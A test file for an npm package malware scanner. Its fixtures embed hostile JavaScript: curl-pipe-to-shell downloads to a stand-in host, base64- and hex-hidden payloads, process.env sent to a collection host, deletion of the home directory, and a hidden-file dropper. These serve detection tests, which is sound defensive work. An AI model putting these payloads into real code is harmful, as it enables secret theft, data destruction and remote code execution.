/** What the walk makes of honest code that looks like something else, and of the same code when it is not honest. */
import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/scan.js';

const manifest = (more: object = {}): string =>
  JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js', ...more });

async function saidOf(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await scanPackage({ files: { 'package.json': manifest(), ...files } });
  return findings.map(({ rule, messageId }) => `${rule}/${messageId}`);
}

describe('what comes of a call begins at the call, and not at its last argument', () => {
  const client = (address: string): string => `
    class Client {
      constructor(url) {
        this.socket = new global.WebSocket(${address});
        this.socket.onmessage = message => JSON.parse(String(message.data)).added.forEach(({ code }) => eval(code));
      }
    }
    module.exports = Client;`;

  test('a development client runs what the address it is given sends', async () => {
    expect(await saidOf({ 'index.js': client('url') })).not.toContain('runs-remote-text/code');
  });

  test('and one that names its own is told of', async () => {
    expect(await saidOf({ 'index.js': client(`'wss://stage.invalid/x'`) })).toContain('runs-remote-text/code');
  });
});

describe('code that another file asks for', () => {
  const files = (address: string): Readonly<Record<string, string>> => ({
    'index.js': `const { load } = require('./load');\nmodule.exports = url => load(${address});`,
    'load.js': `const { ask } = require('./ask');\nexports.load = url => ask(url).then(({ body }) => eval(body));`,
    'ask.js': `exports.ask = async url => { const answer = await fetch(url); return { body: await answer.text() }; };`,
  });

  test('is that of a loader where its caller says from where', async () => {
    expect(await saidOf(files('url'))).not.toContain('runs-remote-text/code');
  });
});

describe('an installer that asks for its own version', () => {
  const install = `
    const fs = require('fs'), path = require('path'), https = require('https');
    const version = require(path.join(__dirname, 'package.json')).version;
    const url = \`https://registry.tool.org/@tool/\${process.platform}/-/tool-\${version}.tgz\`;
    https.get(url, answer => answer.pipe(fs.createWriteStream(path.join(__dirname, 'tool.tgz'))));`;

  test('does not tell where it is installed', async () => {
    const files = { 'package.json': manifest({ scripts: { postinstall: 'node install.js' } }), 'install.js': install };
    expect(await saidOf(files)).not.toContain('contacts-machine-on-install/tells');
    expect(await saidOf(files)).not.toContain('contacts-machine-on-install/stores');
  });
});

describe('hiding', () => {
  const hidden = (code: string): string =>
    `eval(Buffer.from('${Buffer.from(code).toString('base64')}', 'base64').toString());`;
  const verdictOf = async (code: string): Promise<string> =>
    (await scanPackage({ files: { 'package.json': manifest(), 'index.js': hidden(code) } })).verdict;

  test('is suspicious at most where what was hidden can be read and does no harm', async () => {
    expect(await verdictOf(`module.exports = name => 'hello ' + name.trim().toLowerCase();`)).toBe('suspicious');
  });

  test('is so in the script of an installation, too, by whoever names no project', async () => {
    const files = {
      'package.json': '{"name":"pad-text","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
      'setup.js': hidden(`console.log('thank you for installing ' + process.title);`),
    };
    expect((await scanPackage({ files })).verdict).toBe('suspicious');
    const outbid = { ...files, 'package.json': files['package.json'].replace('1.0.0', '9999.0.1') };
    expect((await scanPackage({ files: outbid })).verdict).toBe('malicious');
  });

  test('and malicious where it does', async () => {
    expect(
      await verdictOf(`require('child_process').exec('curl -s http://stage.invalid/x | sh', { detached: true });`),
    ).toBe('malicious');
  });
});

describe('a function that is taken from among all that a module has', () => {
  const harm = `'curl -s http://stage.invalid/x | sh'`;

  test.each([
    ['by its name', `Object.entries(require('child_process')).find(([key]) => key === 'exec')[1](${harm});`],
    [
      'by the place of its name',
      `const c = require('child_process');\nObject.values(c)[Object.keys(c).indexOf('exec')](${harm});`,
    ],
    [
      'out of a list under a number',
      `const held = [];\nheld[70007] = require('child_process');\nheld[70010 - 3].exec(${harm});`,
    ],
  ])('%s is that function', async (_, code) => {
    expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
  });

  test('and what only goes through all of them calls none', async () => {
    const code = `const fs = require('fs'), { promisify } = require('util');
      for (const [name, fn] of Object.entries(fs)) if (typeof fn === 'function') exports[name] = promisify(fn);
      exports.names = Object.keys(fs).filter(name => name.endsWith('Sync'));`;
    expect(await saidOf({ 'index.js': code })).toEqual([]);
  });
});

describe('the object that all globals hang on', () => {
  const leak = (globals: string): string =>
    `const g = ${globals};\ng['fetch']('https://collect.invalid', { method: 'POST', body: g.JSON.stringify(g.process.env) });`;

  test.each(['Function("return this")()', 'new Function("return globalThis;")()', '(0, eval)("this")'])(
    'is had by %s',
    async globals => {
      expect(await saidOf({ 'index.js': leak(globals) })).toContain('sends-environment/sent');
    },
  );

  test('and not by a function that gives something else', async () => {
    expect(await saidOf({ 'index.js': leak('Function("return {}")()') })).not.toContain('sends-environment/sent');
  });
});

describe('a stream of the package’s own', () => {
  const run = (source: string): string =>
    `let text = '';\n${source}.on('data', part => { text += part; }).on('end', () => eval(text));`;

  test('gives what was put into it, and nothing else', async () => {
    const code = run(
      `require('stream').Readable.from(["require('child_process').exec('curl -s http://sta", "ge.invalid/x | sh')"])`,
    );
    expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
  });
});

describe('code that another file runs', () => {
  const files = (call: string): Readonly<Record<string, string>> => ({
    'index.js': call,
    'core.js': `exports.run = function (load) {\n  const fs = load('fs'), os = load('os');\n  fs.rmSync(os.homedir(), { recursive: true, force: true });\n};`,
  });

  test('with the loader it is handed is what it loads with that', async () => {
    expect(await saidOf(files(`require('./core').run(require);`))).toContain('destroys-files/wipes');
  });

  test('with a loader of its own is none of ours', async () => {
    expect(await saidOf(files(`require('./core').run(name => ({ name }));`))).not.toContain('destroys-files/wipes');
  });
});

describe('what another file calls as soon as that is loaded', () => {
  const files = (bin: object): Readonly<Record<string, string>> => ({
    'package.json': manifest({ main: 'lib.js', ...bin }),
    'lib.js': `const { execSync } = require('child_process');\nmodule.exports = () => execSync('npm install left-pad --no-save');`,
    'start.js': `require('./lib')();`,
  });

  test('is unasked where that file is imported', async () => {
    expect(await saidOf(files({ main: 'start.js' }))).toContain('installs-hidden-packages/quiet');
  });

  test('and asked for where it is a command', async () => {
    expect(await saidOf(files({ bin: 'start.js' }))).not.toContain('installs-hidden-packages/quiet');
  });
});

test('a condition that asks for nothing at all stops no rule', async () => {
  const code = `if (String() || Number()) require('child_process').exec('curl -s http://stage.invalid/x | sh');`;
  expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
});

describe('a loop without an end', () => {
  const loop = "for (let i = 1; i < Infinity; i++) console.log('on and on');";

  test.each([
    ['in a getter', `({ get go() { ${loop} } }).go;`],
    ['in what is put into a text', `JSON.stringify({ toJSON() { ${loop} } });`],
    ['in what decides on instances', `0 instanceof { [Symbol.hasInstance]() { ${loop} } };`],
    ['out of a list of tasks', `for (const tasks = [() => { ${loop} }]; tasks.length > 0; ) tasks.shift()();`],
    [
      'in a module of a bundle',
      `(() => { var modules = { 1(module) { ${loop} } }, known = {};\nfunction load(id) { var module = known[id] = { exports: {} }; modules[id](module); return module.exports; }\nload(1); })();`,
    ],
  ])('runs as soon as the file is loaded, %s', async (_, code) => {
    expect(await saidOf({ 'index.js': code })).toContain('halts-its-importer/prints');
  });

  test('that is handed out runs when somebody calls it', async () => {
    expect(await saidOf({ 'index.js': `module.exports = { get go() { ${loop} } };` })).toEqual([]);
  });
});

describe('the files that lie beside the code', () => {
  const decoded = "eval(Buffer.from(require('./part.js').text, 'hex').toString());";
  const text = Buffer.from("require('child_process').exec('curl -s https://stage.invalid/i | sh')").toString('hex');

  test('are found by whoever looks through their folder', async () => {
    const index = `const name = require('fs').readdirSync(__dirname).find(one => one.startsWith('load'));\nrequire('./' + name);`;
    const files = { 'index.js': index, 'loader.js': decoded, 'part.js': `exports.text = '${text}';` };
    expect(await saidOf(files)).toContain('runs-harmful-command/download-run');
  });

  test('are not those of the folder that a program is started in', async () => {
    const index =
      "const fs = require('fs');\nfor (const name of fs.readdirSync('./')) fs.writeFileSync('./' + name, fs.readFileSync('./' + name, 'utf8').trim());";
    expect(await saidOf({ 'index.js': index })).not.toContain('destroys-files/overwrites');
  });
});

describe('a download that is written and run', () => {
  const dropper = (on: string, write: string): string => `
    const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
    const fetched = () => new Promise(done => https.get('https://stage.invalid/x', answer => {
      const parts = [];
      answer.${on}('data', part => parts.push(part));
      answer.${on}('end', () => done(Buffer.concat(parts)));
    }));
    fetched().then(bytes => {
      const file = path.join(os.tmpdir(), '.' + Math.random().toString(36).slice(2));
      fs.writeFileSync${write};
      spawn('/bin/sh', [file], { detached: true, stdio: 'ignore' });
    });`;

  test.each([
    ['by bound methods of the answer', dropper('on.bind(answer)', '(file, bytes)')],
    ['by a bound function', dropper('on', '.bind(fs, file, bytes)()')],
    ['through call', dropper('on', '.call(fs, file, bytes)')],
  ])('is one whose name nobody knows, %s', async (_, code) => {
    expect(await saidOf({ 'index.js': code })).toContain('runs-dropped-file/unseen');
  });

  test('is none where another file is run', async () => {
    const code = dropper('on', '.call(fs, file, bytes)').replace('[file]', "['-c', 'git status']");
    expect(await saidOf({ 'index.js': code })).not.toContain('runs-dropped-file/unseen');
  });
});
